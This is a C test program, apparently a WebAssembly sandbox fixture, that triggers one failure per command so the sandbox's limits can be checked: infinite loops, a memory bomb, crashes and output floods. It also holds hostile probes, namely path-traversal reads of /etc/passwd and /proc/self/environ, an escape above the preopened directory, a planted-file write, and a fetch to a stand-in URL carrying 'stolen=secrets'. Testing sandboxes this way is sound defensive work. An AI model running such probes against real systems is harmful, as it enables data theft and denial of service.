// misbehave: one way of going wrong for each command, to see what stops it. The command's name is the argument.
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define VISIBLE __attribute__((noinline, used))

// A host function that the manifest does not ask for.
__attribute__((import_module("env"), import_name("host_fetch")))
int32_t host_fetch(const char *url, int32_t url_length, const char *body, int32_t body_length);

VISIBLE static void endless_loop(void) {
  for (volatile unsigned turns = 0;; turns++) {}
}

VISIBLE static int endless_recursion(volatile int *above) {
  volatile int here = *above + 1;
  if (here < 0) return 0; // never: the compiler must not see that
  return endless_recursion(&here) + here;
}

VISIBLE static void memory_bomb(void) {
  const size_t mebibyte = 1024 * 1024;
  for (unsigned long taken = 0;; taken++) {
    volatile char *block = malloc(mebibyte);
    if (block == NULL) {
      printf("memory refused after %lu MiB\n", taken);
      fflush(stdout);
      abort();
    }
    for (size_t i = 0; i < mebibyte; i += 4096) block[i] = 1;
  }
}

VISIBLE static int divide(volatile int a, volatile int b) { return a / b; }

VISIBLE static int out_of_bounds(void) { return *(volatile int *)(uintptr_t)0xFFFFFF00u; }

static int takes_nothing(void) { return 1; }

VISIBLE static int wrong_call(void) {
  int (*volatile function)(void) = takes_nothing;
  return ((int (*)(int, double))function)(1, 2.0);
}

VISIBLE static void flood(void) {
  static char line[4096];
  memset(line, 'x', sizeof line);
  for (;;) {
    if (write(1, line, sizeof line) < 0) exit(1);
  }
}

VISIBLE static void sleep_for_an_hour(void) {
  struct timespec hour = { 3600, 0 };
  nanosleep(&hour, NULL);
}

VISIBLE static int read_outside(void) {
  static const char *const paths[] = {
    "/etc/passwd",
    "/workspace/../../../../../../etc/passwd",
    "/workspace/docs/../../../../../../../etc/passwd",
    "../../etc/passwd",
    "/proc/self/environ",
    "/workspace/docs/outside",
    "/workspace/reports/README.md",
  };
  int opened = 0;
  for (unsigned i = 0; i < sizeof paths / sizeof paths[0]; i++) {
    int fd = open(paths[i], O_RDONLY);
    char byte;
    if (fd >= 0 && read(fd, &byte, 1) == 1) {
      printf("%s: READ\n", paths[i]);
      opened++;
    } else {
      printf("%s: refused\n", paths[i]);
    }
    if (fd >= 0) close(fd);
  }
  int fd = openat(3, "../../../../../../etc/passwd", O_RDONLY);
  printf("above the preopen: %s\n", fd >= 0 ? "READ" : "refused");
  if (fd >= 0) opened++;
  int created = open("/workspace/docs/planted.txt", O_CREAT | O_WRONLY, 0666);
  printf("writing without the right: %s\n", created >= 0 ? "WRITTEN" : "refused");
  if (created >= 0) opened++;
  return opened == 0 ? 1 : 0;
}

VISIBLE static void undeclared_call(void) {
  static const char url[] = "https://example.org/?stolen=secrets";
  int answer = host_fetch(url, sizeof url - 1, NULL, 0);
  printf("the host answered %d\n", answer);
}

int main(int argc, char **argv) {
  const char *way = argc > 1 ? argv[1] : "";
  printf("misbehaving: %s\n", way);
  fflush(stdout);
  if (strcmp(way, "endless-loop") == 0) endless_loop();
  else if (strcmp(way, "endless-recursion") == 0) {
    volatile int zero = 0;
    return endless_recursion(&zero);
  }
  else if (strcmp(way, "memory-bomb") == 0) memory_bomb();
  else if (strcmp(way, "divide-by-zero") == 0) return divide(1, argc - 2);
  else if (strcmp(way, "unreachable") == 0) __builtin_trap();
  else if (strcmp(way, "out-of-bounds") == 0) return out_of_bounds();
  else if (strcmp(way, "wrong-call") == 0) return wrong_call();
  else if (strcmp(way, "flood") == 0) flood();
  else if (strcmp(way, "sleep") == 0) sleep_for_an_hour();
  else if (strcmp(way, "read-outside") == 0) return read_outside();
  else if (strcmp(way, "undeclared-call") == 0) undeclared_call();
  else if (strcmp(way, "exit-3") == 0) return 3;
  else {
    fprintf(stderr, "misbehave: unknown way \"%s\"\n", way);
    return 2;
  }
  return 0;
}
